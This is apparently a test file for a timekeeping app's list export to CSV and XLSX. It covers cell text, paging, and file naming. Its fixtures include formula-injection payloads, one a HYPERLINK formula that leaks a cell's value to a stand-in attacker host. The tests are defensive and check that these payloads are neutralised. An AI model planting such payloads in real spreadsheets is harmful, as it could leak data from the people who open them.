import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { ListQuery, Page } from '@timekeep/contracts';
import { createElement } from 'react';
import type { DataColumn } from './DataTable';
import { allRows, cellOf, csvOf, ListChangedError, listFileName, sheetOf, textOfNode, xlsxOf } from './list-export';
import { YesNoIcon } from './marks';
import { StatusTag } from './Status';

interface Person {
  id: string;
  name: string;
  hours: number;
  active: boolean;
  roles: string[];
  status: string;
}

const tag = (text: string) => createElement('span', { className: 'tag' }, text);

const columns: DataColumn<Person>[] = [
  { key: 'name', title: 'Name' },
  { key: 'hours', title: 'Hours' },
  { key: 'active', title: 'Status', render: (p) => createElement(StatusTag, { active: p.active }) },
  { key: 'roles', title: 'Role', render: (p) => p.roles.map((r) => tag(r)) },
  // A control that shows the value without text of its own: the file says the row's field.
  { key: 'status', title: 'Employee Status', render: () => createElement('select') },
  { key: 'export', title: 'Export', render: (p) => createElement(YesNoIcon, { on: p.active, label: 'Export' }) },
  { key: 'action', title: 'Action', inFile: false, render: () => createElement('button', { 'aria-label': 'Edit' }) },
];

const people = (count: number): Person[] =>
  Array.from({ length: count }, (_, i) => ({ id: String(i + 1), name: `Person ${i + 1}`, hours: i / 2, active: i % 2 === 0, roles: ['Admin', 'Employee'], status: 'Active' }));

/** A list API over rows: pages as the server serves them (at most 100 a page). */
const serve = (rows: () => Person[], asked: ListQuery[] = []) => async (query: ListQuery): Promise<Page<Person>> => {
  asked.push(query);
  const all = rows();
  return { items: all.slice((query.page - 1) * query.pageSize, query.page * query.pageSize), total: all.length, page: query.page, pageSize: query.pageSize };
};

describe('a list exported to a file (ADR 0073)', () => {
  it('says what each cell shows: text through elements, the words of marks, tags as a list, a silent control by its field', () => {
    const [ann] = people(1);
    expect(columns.map((c) => cellOf(c, ann))).toEqual(['Person 1', 0, 'Active', 'Admin, Employee', 'Active', 'Yes', '']);
    expect(textOfNode(createElement('a', null, 'Jane ', createElement('b', null, 'Smith')))).toBe('Jane Smith');
    expect(textOfNode([null, false, 'x'])).toBe('x');
  });

  it('holds the columns shown, without the actions', () => {
    const sheet = sheetOf(columns, people(2));
    expect(sheet.header).toEqual(['Name', 'Hours', 'Status', 'Role', 'Employee Status', 'Export']);
    expect(sheet.body[1]).toEqual(['Person 2', 0.5, 'Inactive', 'Admin, Employee', 'Active', 'No']);
  });

  it('reads every page with the search and sort the table asks for', async () => {
    const asked: ListQuery[] = [];
    const rows = await allRows(serve(() => people(250), asked), { page: 3, pageSize: 10, search: 'Per', sort: 'name', order: 'ascend' });
    expect(rows.map((r) => r.id)).toEqual(people(250).map((p) => p.id));
    expect(asked.map((q) => [q.page, q.pageSize, q.search, q.sort, q.order])).toEqual([1, 2, 3].map((page) => [page, 100, 'Per', 'name', 'ascend']));
  });

  it('is refused when rows come or go while it is read, rather than written with a row missing or twice', async () => {
    let count = 150;
    const growing = serve(() => people(count++));
    await expect(allRows(growing, { page: 1, pageSize: 10 })).rejects.toBeInstanceOf(ListChangedError);
  });

  it('reads an empty list as a header alone', async () => {
    const rows = await allRows(serve(() => []), { page: 1, pageSize: 10 });
    expect(rows).toEqual([]);
    const csv = await csvOf(sheetOf(columns, rows));
    expect(parse(csv.replace(/^\uFEFF/, ''))).toEqual([['Name', 'Hours', 'Status', 'Role', 'Employee Status', 'Export']]);
  });

  const hostile = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', '@SUM(1)', '+1', '-2', '\tTab', '\rReturn', '＝1+1', 'Māori name, "quoted"'];

  it('writes a CSV whose every formula-starting cell is neutralised and quoted, in UTF-8 with a BOM', async () => {
    const rows = hostile.map((name, i) => ({ ...people(1)[0], id: String(i), name }));
    const csv = await csvOf(sheetOf(columns.slice(0, 2), rows));
    expect(csv.startsWith('\uFEFFName,Hours\r\n')).toBe(true);
    const parsed = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
    expect(parsed.slice(1).map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
      `'@SUM(1)`,
      `'+1`,
      `'-2`,
      `'\tTab`,
      `'\rReturn`,
      `'＝1+1`,
      'Māori name, "quoted"',
    ]);
    // Every neutralised cell is quoted in the file as well.
    expect(csv).toContain(`"'@SUM(1)"`);
    // A number stays a number a spreadsheet adds up.
    expect(parsed[1][1]).toBe('0');
  });

  it('writes an XLSX that stores the same text as text, never as a formula, and numbers as numbers', async () => {
    // (A lone CR is not kept by XML, which reads it as a line end: no name holds one.)
    const names = hostile.filter((name) => !name.includes('\r'));
    const rows = names.map((name, i) => ({ ...people(1)[0], id: String(i), name, hours: i - 1.5 }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsxOf(sheetOf(columns.slice(0, 3), rows), 'Employees: all / some'));
    const sheet = workbook.worksheets[0];
    expect(sheet.name).toBe('Employees  all   some');
    expect(sheet.getRow(1).values).toEqual([undefined, 'Name', 'Hours', 'Status']);
    names.forEach((name, i) => {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(name);
      expect(sheet.getCell(i + 2, 2).value).toBe(i - 1.5);
    });
  });

  it("names the file after the list and today's date, without characters a file system refuses", () => {
    expect(listFileName('Employees', 'csv', '2026-11-30')).toBe('Employees 2026-11-30.csv');
    expect(listFileName('Jobs/Tasks: "all"', 'xlsx', '2026-11-30')).toBe('Jobs Tasks all 2026-11-30.xlsx');
  });
});
